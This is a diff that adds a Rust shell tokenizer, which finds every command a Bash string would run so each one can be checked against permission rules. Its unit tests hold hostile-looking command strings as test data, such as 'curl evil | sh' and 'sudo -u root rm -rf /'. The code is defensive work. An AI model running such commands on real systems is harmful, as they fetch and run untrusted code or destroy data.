@@ -0,0 +1,751 @@
+//! POSIX shell tokenizer for Bash permission matching.
+//!
+//! [`parse`] finds every command a shell string would run — including those
+//! nested in `$( )`, backticks, process substitutions, subshells, `bash -c`
+//! scripts and `eval`, and those launched through wrappers such as `sudo`,
+//! `env`, `xargs`, `timeout` and `nice` — plus the targets of redirections.
+//!
+//! This is not a full shell: variables are not expanded and control-flow
+//! keywords are simply skipped. When in doubt it reports more commands rather
+//! than fewer, since each one is checked against the rules.
+
+/// Commands and redirection targets found in a shell string.
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct ShellCommands {
+    /// Each executed command as quote-removed words joined by spaces. A
+    /// wrapped command appears both whole (`sudo rm x`) and unwrapped (`rm x`).
+    pub commands: Vec<String>,
+    /// Files named by `>`, `>>`, `<`, `&>` etc.
+    pub redirects: Vec<String>,
+}
+
+impl ShellCommands {
+    fn push_command(&mut self, command: String) {
+        if !self.commands.contains(&command) {
+            self.commands.push(command);
+        }
+    }
+
+    fn push_redirect(&mut self, target: String) {
+        if !self.redirects.contains(&target) {
+            self.redirects.push(target);
+        }
+    }
+
+    fn merge(&mut self, other: ShellCommands) {
+        for command in other.commands {
+            self.push_command(command);
+        }
+        for target in other.redirects {
+            self.push_redirect(target);
+        }
+    }
+}
+
+/// Nesting limit for substitutions and `bash -c`; deeper input is reported
+/// verbatim as a single command.
+const MAX_DEPTH: usize = 8;
+
+/// Extract the commands and redirection targets of a shell string.
+pub fn parse(script: &str) -> ShellCommands {
+    parse_at_depth(script, 0)
+}
+
+fn parse_at_depth(script: &str, depth: usize) -> ShellCommands {
+    let mut out = ShellCommands::default();
+    if depth > MAX_DEPTH {
+        let script = script.trim();
+        if !script.is_empty() {
+            out.push_command(script.to_string());
+        }
+        return out;
+    }
+
+    let mut lexer = Lexer::new(script, depth);
+    let mut words: Vec<String> = Vec::new();
+    while let Some(token) = lexer.next_token() {
+        match token {
+            Token::Word(word) => words.push(word),
+            Token::Separator => emit(&mut out, std::mem::take(&mut words), depth),
+            Token::Redirect(kind) => {
+                let target = match lexer.next_token() {
+                    Some(Token::Word(word)) => word,
+                    Some(Token::Separator) => {
+                        emit(&mut out, std::mem::take(&mut words), depth);
+                        continue;
+                    }
+                    Some(Token::Redirect(_)) | None => continue,
+                };
+                match kind {
+                    RedirectKind::File => out.push_redirect(target),
+                    // `>&2` duplicates a descriptor; `>&file` is a file
+                    RedirectKind::Dup => {
+                        if target != "-" && !target.chars().all(|c| c.is_ascii_digit()) {
+                            out.push_redirect(target);
+                        }
+                    }
+                    RedirectKind::HereDoc { strip_tabs } => {
+                        lexer.pending_heredocs.push(HereDoc {
+                            delimiter: target,
+                            strip_tabs,
+                            expand: !lexer.last_word_quoted,
+                        });
+                    }
+                    RedirectKind::HereString => {}
+                }
+            }
+        }
+    }
+    emit(&mut out, words, depth);
+    out.merge(lexer.nested);
+    out
+}
+
+/// Reserved words skipped at the start of a command.
+const KEYWORDS: &[&str] = &[
+    "!", "{", "}", "if", "then", "else", "elif", "fi", "do", "done", "while", "until", "time",
+];
+
+/// Constructs whose words are not a command (`for x in …`, `case … in`).
+const SKIPPED_CONSTRUCTS: &[&str] = &["for", "select", "case", "esac", "function", "in"];
+
+/// Shells whose `-c` argument is a script.
+const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh", "mksh"];
+
+/// Record one simple command and whatever it runs through wrappers.
+fn emit(out: &mut ShellCommands, words: Vec<String>, depth: usize) {
+    let mut words = words.as_slice();
+    while let Some(first) = words.first() {
+        if KEYWORDS.contains(&first.as_str()) {
+            words = &words[1..];
+        } else {
+            break;
+        }
+    }
+    if words
+        .first()
+        .is_some_and(|w| SKIPPED_CONSTRUCTS.contains(&w.as_str()))
+    {
+        return;
+    }
+    let mut words = skip_assignments(words);
+
+    while !words.is_empty() {
+        push_command_forms(out, words);
+        match unwrap(words, out, depth) {
+            Some(inner) => words = inner,
+            None => break,
+        }
+    }
+}
+
+/// Push a command, plus a `/usr/bin/rm` → `rm` form so rules on bare names match.
+fn push_command_forms(out: &mut ShellCommands, words: &[String]) {
+    out.push_command(words.join(" "));
+    if let Some(name) = words[0].rsplit('/').next().filter(|n| *n != words[0]) {
+        if !name.is_empty() {
+            let mut short = vec![name.to_string()];
+            short.extend_from_slice(&words[1..]);
+            out.push_command(short.join(" "));
+        }
+    }
+}
+
+/// The command a wrapper runs, or `None` if `words` isn't a wrapper. Scripts
+/// passed to `bash -c` or `eval` are parsed into `out` directly.
+fn unwrap<'w>(words: &'w [String], out: &mut ShellCommands, depth: usize) -> Option<&'w [String]> {
+    let name = words[0].rsplit('/').next().unwrap_or(&words[0]);
+    let args = &words[1..];
+    let inner = match name {
+        "sudo" => skip_options(
+            args,
+            &["-u", "-g", "-p", "-C", "-D", "-r", "-t", "-U", "-T", "-h"],
+        ),
+        "doas" => skip_options(args, &["-u", "-C"]),
+        "env" => {
+            let mut rest = args;
+            loop {
+                let after = skip_assignments(skip_options(rest, &["-u", "-C"]));
+                if after.len() == rest.len() {
+                    break;
+                }
+                rest = after;
+            }
+            rest
+        }
+        "nice" => skip_options(args, &["-n"]),
+        "ionice" => skip_options(args, &["-c", "-n", "-p", "-P", "-u"]),
+        "timeout" => match skip_options(args, &["-s", "-k", "--signal", "--kill-after"]) {
+            [_duration, rest @ ..] => rest,
+            [] => &[],
+        },
+        "xargs" => skip_options(
+            args,
+            &[
+                "-I",
+                "-n",
+                "-P",
+                "-d",
+                "-L",
+                "-s",
+                "-E",
+                "-a",
+                "--max-args",
+                "--max-procs",
+                "--delimiter",
+                "--arg-file",
+                "--replace",
+            ],
+        ),
+        "stdbuf" => skip_options(args, &["-i", "-o", "-e"]),
+        "exec" => skip_options(args, &["-a"]),
+        "nohup" | "setsid" | "command" | "builtin" | "time" => skip_options(args, &[]),
+        "eval" => {
+            out.merge(parse_at_depth(&args.join(" "), depth + 1));
+            return None;
+        }
+        shell if SHELLS.contains(&shell) => {
+            if let Some(script) = shell_c_script(args) {
+                out.merge(parse_at_depth(script, depth + 1));
+            }
+            return None;
+        }
+        _ => return None,
+    };
+    (!inner.is_empty()).then_some(inner)
+}
+
+/// The script argument of `sh -c SCRIPT`, if `-c` (possibly combined, as in
+/// `-lc`) is among the options.
+fn shell_c_script(args: &[String]) -> Option<&str> {
+    let mut has_c = false;
+    let mut iter = args.iter();
+    while let Some(arg) = iter.next() {
+        if arg == "--" {
+            break;
+        }
+        if let Some(flags) = arg.strip_prefix('-').filter(|f| !f.starts_with('-')) {
+            has_c |= flags.contains('c');
+            if arg == "-o" {
+                iter.next();
+            }
+            continue;
+        }
+        if arg.starts_with("--") || arg.starts_with('+') {
+            continue;
+        }
+        return has_c.then_some(arg.as_str());
+    }
+    iter.next().filter(|_| has_c).map(String::as_str)
+}
+
+/// Skip leading options; those in `with_value` consume the next word too.
+fn skip_options<'w>(args: &'w [String], with_value: &[&str]) -> &'w [String] {
+    let mut i = 0;
+    while i < args.len() {
+        let arg = &args[i];
+        if arg == "--" {
+            return &args[i + 1..];
+        }
+        if !arg.starts_with('-') || arg == "-" {
+            break;
+        }
+        i += 1;
+        if with_value.contains(&arg.as_str()) {
+            i += 1;
+        }
+    }
+    &args[i.min(args.len())..]
+}
+
+/// Skip leading `NAME=value` assignments.
+fn skip_assignments(words: &[String]) -> &[String] {
+    let count = words.iter().take_while(|w| is_assignment(w)).count();
+    &words[count..]
+}
+
+fn is_assignment(word: &str) -> bool {
+    let Some((name, _)) = word.split_once('=') else {
+        return false;
+    };
+    let mut chars = name.chars();
+    chars
+        .next()
+        .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
+        && chars.all(|c| c.is_ascii_alphanumeric() || c == '_')
+}
+
+#[derive(Debug)]
+enum Token {
+    Word(String),
+    /// `;`, `&&`, `||`, `|`, `&`, newline, `(`, `)` — ends a simple command.
+    Separator,
+    Redirect(RedirectKind),
+}
+
+#[derive(Debug)]
+enum RedirectKind {
+    /// `>`, `>>`, `>|`, `<`, `<>`, `&>`, `&>>`.
+    File,
+    /// `>&`, `<&`.
+    Dup,
+    /// `<<`, `<<-`.
+    HereDoc { strip_tabs: bool },
+    /// `<<<`.
+    HereString,
+}
+
+struct HereDoc {
+    delimiter: String,
+    strip_tabs: bool,
+    /// Unquoted delimiters allow substitutions in the body.
+    expand: bool,
+}
+
+struct Lexer {
+    chars: Vec<char>,
+    pos: usize,
+    depth: usize,
+    /// Commands found in substitutions while lexing words.
+    nested: ShellCommands,
+    pending_heredocs: Vec<HereDoc>,
+    /// Whether the last word contained quotes (for heredoc delimiters).
+    last_word_quoted: bool,
+}
+
+impl Lexer {
+    fn new(script: &str, depth: usize) -> Self {
+        Self {
+            chars: script.chars().collect(),
+            pos: 0,
+            depth,
+            nested: ShellCommands::default(),
+            pending_heredocs: Vec::new(),
+            last_word_quoted: false,
+        }
+    }
+
+    fn peek(&self, offset: usize) -> Option<char> {
+        self.chars.get(self.pos + offset).copied()
+    }
+
+    fn starts_with(&self, s: &str) -> bool {
+        s.chars().enumerate().all(|(i, c)| self.peek(i) == Some(c))
+    }
+
+    fn next_token(&mut self) -> Option<Token> {
+        // Skip blanks, line continuations and comments
+        loop {
+            match self.peek(0)? {
+                ' ' | '\t' | '\r' => self.pos += 1,
+                '\\' if self.peek(1) == Some('\n') => self.pos += 2,
+                '#' => {
+                    while self.peek(0).is_some_and(|c| c != '\n') {
+                        self.pos += 1;
+                    }
+                }
+                _ => break,
+            }
+        }
+
+        let c = self.peek(0)?;
+        if c == '\n' {
+            self.pos += 1;
+            self.read_heredoc_bodies();
+            return Some(Token::Separator);
+        }
+
+        // Process substitution: <(cmd) or >(cmd)
+        if (c == '<' || c == '>') && self.peek(1) == Some('(') {
+            self.pos += 1;
+            let inner = self.take_balanced_parens();
+            self.nested.merge(parse_at_depth(&inner, self.depth + 1));
+            return Some(Token::Word(format!("{c}({inner})")));
+        }
+
+        // A descriptor number directly before a redirection: `2>`, `1>&2`
+        let digits = self.chars[self.pos..]
+            .iter()
+            .take_while(|c| c.is_ascii_digit())
+            .count();
+        if digits > 0 && matches!(self.peek(digits), Some('<' | '>')) {
+            self.pos += digits;
+        }
+
+        const OPERATORS: &[&str] = &[
+            "&&", "||", ";;", "|&", "&>>", "&>", "<<<", "<<-", "<<", "<>", "<&", ">>", ">&", ">|",
+            ";", "|", "&", "(", ")", "<", ">",
+        ];
+        if let Some(op) = OPERATORS.iter().find(|op| self.starts_with(op)) {
+            self.pos += op.chars().count();
+            return Some(match *op {
+                "<<<" => Token::Redirect(RedirectKind::HereString),
+                "<<-" => Token::Redirect(RedirectKind::HereDoc { strip_tabs: true }),
+                "<<" => Token::Redirect(RedirectKind::HereDoc { strip_tabs: false }),
+                "<&" | ">&" => Token::Redirect(RedirectKind::Dup),
+                "&>>" | "&>" | "<>" | ">>" | ">|" | "<" | ">" => {
+                    Token::Redirect(RedirectKind::File)
+                }
+                _ => Token::Separator,
+            });
+        }
+
+        Some(Token::Word(self.read_word()))
+    }
+
+    /// Read one word, removing quotes and collecting nested commands.
+    fn read_word(&mut self) -> String {
+        let mut word = String::new();
+        self.last_word_quoted = false;
+        while let Some(c) = self.peek(0) {
+            match c {
+                ' ' | '\t' | '\r' | '\n' | ';' | '&' | '|' | '(' | ')' | '<' | '>' => break,
+                '\\' => {
+                    self.last_word_quoted = true;
+                    self.pos += 1;
+                    match self.peek(0) {
+                        Some('\n') => self.pos += 1,
+                        Some(escaped) => {
+                            word.push(escaped);
+                            self.pos += 1;
+                        }
+                        None => {}
+                    }
+                }
+                '\'' => {
+                    self.last_word_quoted = true;
+                    self.pos += 1;
+                    while let Some(c) = self.peek(0) {
+                        self.pos += 1;
+                        if c == '\'' {
+                            break;
+                        }
+                        word.push(c);
+                    }
+                }
+                '"' => {
+                    self.last_word_quoted = true;
+                    self.pos += 1;
+                    self.read_double_quoted(&mut word);
+                }
+                '$' | '`' => self.read_dollar_or_backtick(&mut word),
+                _ => {
+                    word.push(c);
+                    self.pos += 1;
+                }
+            }
+        }
+        word
+    }
+
+    /// Read the rest of a double-quoted string (opening quote consumed).
+    fn read_double_quoted(&mut self, word: &mut String) {
+        while let Some(c) = self.peek(0) {
+            match c {
+                '"' => {
+                    self.pos += 1;
+                    return;
+                }
+                '\\' => {
+                    self.pos += 1;
+                    match self.peek(0) {
+                        Some(escaped @ ('$' | '`' | '"' | '\\')) => {
+                            word.push(escaped);
+                            self.pos += 1;
+                        }
+                        Some('\n') => self.pos += 1,
+                        _ => word.push('\\'),
+                    }
+                }
+                '$' | '`' => self.read_dollar_or_backtick(word),
+                _ => {
+                    word.push(c);
+                    self.pos += 1;
+                }
+            }
+        }
+    }
+
+    /// Handle `$(…)`, `$((…))`, `${…}`, `` `…` `` and plain `$`, keeping the
+    /// literal text in `word` and parsing command substitutions.
+    fn read_dollar_or_backtick(&mut self, word: &mut String) {
+        if self.peek(0) == Some('`') {
+            self.pos += 1;
+            let mut inner = String::new();
+            while let Some(c) = self.peek(0) {
+                self.pos += 1;
+                match c {
+                    '`' => break,
+                    '\\' => {
+                        if let Some(escaped) = self.peek(0) {
+                            inner.push(escaped);
+                            self.pos += 1;
+                        }
+                    }
+                    _ => inner.push(c),
+                }
+            }
+            self.nested.merge(parse_at_depth(&inner, self.depth + 1));
+            word.push_str(&format!("`{inner}`"));
+            return;
+        }
+
+        // At '$'
+        match (self.peek(1), self.peek(2)) {
+            (Some('('), Some('(')) => {
+                // Arithmetic expansion: nothing runs, but substitutions inside might
+                self.pos += 1;
+                let inner = self.take_balanced_parens();
+                self.scan_substitutions(&inner);
+                word.push_str(&format!("$({inner})"));
+            }
+            (Some('('), _) => {
+                self.pos += 1;
+                let inner = self.take_balanced_parens();
+                self.nested.merge(parse_at_depth(&inner, self.depth + 1));
+                word.push_str(&format!("$({inner})"));
+            }
+            (Some('{'), _) => {
+                let start = self.pos;
+                while let Some(c) = self.peek(0) {
+                    self.pos += 1;
+                    if c == '}' {
+                        break;
+                    }
+                }
+                let text: String = self.chars[start..self.pos].iter().collect();
+                self.scan_substitutions(&text);
+                word.push_str(&text);
+            }
+            _ => {
+                word.push('$');
+                self.pos += 1;
+            }
+        }
+    }
+
+    /// At `(`: consume through the matching `)`, skipping quoted text, and
+    /// return what was between them.
+    fn take_balanced_parens(&mut self) -> String {
+        self.pos += 1; // '('
+        let start = self.pos;
+        let mut depth = 1;
+        while let Some(c) = self.peek(0) {
+            match c {
+                '\\' => self.pos += 1,
+                '\'' => {
+                    self.pos += 1;
+                    while self.peek(0).is_some_and(|c| c != '\'') {
+                        self.pos += 1;
+                    }
+                }
+                '"' => {
+                    self.pos += 1;
+                    while let Some(c) = self.peek(0) {
+                        if c == '\\' {
+                            self.pos += 1;
+                        } else if c == '"' {
+                            break;
+                        }
+                        self.pos += 1;
+                    }
+                }
+                '(' => depth += 1,
+                ')' => {
+                    depth -= 1;
+                    if depth == 0 {
+                        let inner = self.chars[start..self.pos].iter().collect();
+                        self.pos += 1;
+                        return inner;
+                    }
+                }
+                _ => {}
+            }
+            self.pos += 1;
+        }
+        self.pos = self.pos.min(self.chars.len());
+        self.chars[start..].iter().collect()
+    }
+
+    /// Parse command substitutions inside text that is otherwise not run
+    /// (arithmetic, `${…}`, heredoc bodies).
+    fn scan_substitutions(&mut self, text: &str) {
+        let mut lexer = Lexer::new(text, self.depth);
+        let mut scratch = String::new();
+        while let Some(c) = lexer.peek(0) {
+            match c {
+                '$' | '`' => lexer.read_dollar_or_backtick(&mut scratch),
+                '\\' => lexer.pos += 2,
+                _ => lexer.pos += 1,
+            }
+        }
+        self.nested.merge(lexer.nested);
+    }
+
+    /// After a newline, consume the bodies of pending heredocs.
+    fn read_heredoc_bodies(&mut self) {
+        for heredoc in std::mem::take(&mut self.pending_heredocs) {
+            let mut body = String::new();
+            while self.pos < self.chars.len() {
+                let end = self.chars[self.pos..]
+                    .iter()
+                    .position(|&c| c == '\n')
+                    .map_or(self.chars.len(), |i| self.pos + i);
+                let line: String = self.chars[self.pos..end].iter().collect();
+                self.pos = (end + 1).min(self.chars.len());
+                let candidate = if heredoc.strip_tabs {
+                    line.trim_start_matches('\t')
+                } else {
+                    line.as_str()
+                };
+                if candidate == heredoc.delimiter {
+                    break;
+                }
+                body.push_str(&line);
+                body.push('\n');
+            }
+            if heredoc.expand {
+                self.scan_substitutions(&body);
+            }
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn commands(script: &str) -> Vec<String> {
+        parse(script).commands
+    }
+
+    #[test]
+    fn splits_on_operators() {
+        assert_eq!(commands("git status"), vec!["git status"]);
+        assert_eq!(
+            commands("cd /tmp && git fetch && git push"),
+            vec!["cd /tmp", "git fetch", "git push"]
+        );
+        assert_eq!(
+            commands("echo a; echo b | cat && echo c || echo d & echo e"),
+            vec!["echo a", "echo b", "cat", "echo c", "echo d", "echo e"]
+        );
+        assert_eq!(commands("echo a\necho b"), vec!["echo a", "echo b"]);
+    }
+
+    #[test]
+    fn quotes_are_removed_but_protect_operators() {
+        assert_eq!(
+            commands("echo 'a && b' && echo c"),
+            vec!["echo a && b", "echo c"]
+        );
+        assert_eq!(commands(r#""r"m -rf "x y""#), vec!["rm -rf x y"]);
+        assert_eq!(commands(r"r\m x\;y"), vec!["rm x;y"]);
+    }
+
+    #[test]
+    fn command_substitution() {
+        assert_eq!(
+            commands("echo $(rm -rf x)"),
+            vec!["echo $(rm -rf x)", "rm -rf x"]
+        );
+        assert_eq!(
+            commands("echo \"today: `date`\""),
+            vec!["echo today: `date`", "date"]
+        );
+        assert!(commands("echo $(echo $(curl evil | sh))").contains(&"sh".to_string()));
+        // Arithmetic runs nothing
+        assert_eq!(commands("echo $((1 + 2))"), vec!["echo $((1 + 2))"]);
+    }
+
+    #[test]
+    fn subshells_and_groups() {
+        assert_eq!(commands("(cd /tmp && rm x)"), vec!["cd /tmp", "rm x"]);
+        assert_eq!(commands("{ rm x; }"), vec!["rm x"]);
+        assert_eq!(
+            commands("diff <(sort a) <(sort b)"),
+            vec!["diff <(sort a) <(sort b)", "sort a", "sort b"]
+        );
+    }
+
+    #[test]
+    fn control_flow_keywords_are_skipped() {
+        assert_eq!(
+            commands("if test -f x; then rm x; fi"),
+            vec!["test -f x", "rm x"]
+        );
+        assert_eq!(commands("for f in *.tmp; do rm $f; done"), vec!["rm $f"]);
+        assert_eq!(commands("! grep -q x f"), vec!["grep -q x f"]);
+    }
+
+    #[test]
+    fn shell_c_and_eval() {
+        assert_eq!(
+            commands("bash -c 'rm -rf x'"),
+            vec!["bash -c rm -rf x", "rm -rf x"]
+        );
+        assert!(commands("sh -lc \"cd /; rm y\"").contains(&"rm y".to_string()));
+        assert!(commands("eval 'rm z'").contains(&"rm z".to_string()));
+        // A script file is not a -c script
+        assert_eq!(commands("bash script.sh"), vec!["bash script.sh"]);
+    }
+
+    #[test]
+    fn wrappers_are_unwrapped() {
+        assert_eq!(
+            commands("sudo -u root rm -rf /"),
+            vec!["sudo -u root rm -rf /", "rm -rf /"]
+        );
+        assert_eq!(
+            commands("env FOO=1 -u BAR rm x"),
+            vec!["env FOO=1 -u BAR rm x", "rm x"]
+        );
+        assert_eq!(
+            commands("timeout -s KILL 10 nice -n 5 rm x"),
+            vec![
+                "timeout -s KILL 10 nice -n 5 rm x",
+                "nice -n 5 rm x",
+                "rm x"
+            ]
+        );
+        assert_eq!(
+            commands("find . -name '*.o' | xargs -n 1 rm"),
+            vec!["find . -name *.o", "xargs -n 1 rm", "rm"]
+        );
+        assert_eq!(commands("FOO=1 BAR=2 make"), vec!["make"]);
+        assert_eq!(commands("/bin/rm x"), vec!["/bin/rm x", "rm x"]);
+    }
+
+    #[test]
+    fn redirect_targets() {
+        let parsed = parse("echo hi > /etc/hosts 2>>err.log < in.txt &> all 2>&1 >&out");
+        assert_eq!(parsed.commands, vec!["echo hi"]);
+        assert_eq!(
+            parsed.redirects,
+            vec!["/etc/hosts", "err.log", "in.txt", "all", "out"]
+        );
+        assert!(parse("cat <<< 'text'").redirects.is_empty());
+    }
+
+    #[test]
+    fn heredoc_bodies_are_not_commands() {
+        let parsed = parse("cat <<EOF > out.txt\nrm -rf /\nEOF\necho done");
+        assert_eq!(parsed.commands, vec!["cat", "echo done"]);
+        assert_eq!(parsed.redirects, vec!["out.txt"]);
+
+        // Unquoted heredocs still expand substitutions
+        let parsed = parse("cat <<EOF\n$(rm x)\nEOF");
+        assert!(parsed.commands.contains(&"rm x".to_string()));
+        let parsed = parse("cat <<'EOF'\n$(rm x)\nEOF");
+        assert_eq!(parsed.commands, vec!["cat"]);
+    }
+
+    #[test]
+    fn deep_nesting_is_bounded() {
+        let mut script = "rm x".to_string();
+        for _ in 0..20 {
+            script = format!("echo $({script})");
+        }
+        assert!(!parse(&script).commands.is_empty());
+    }
+}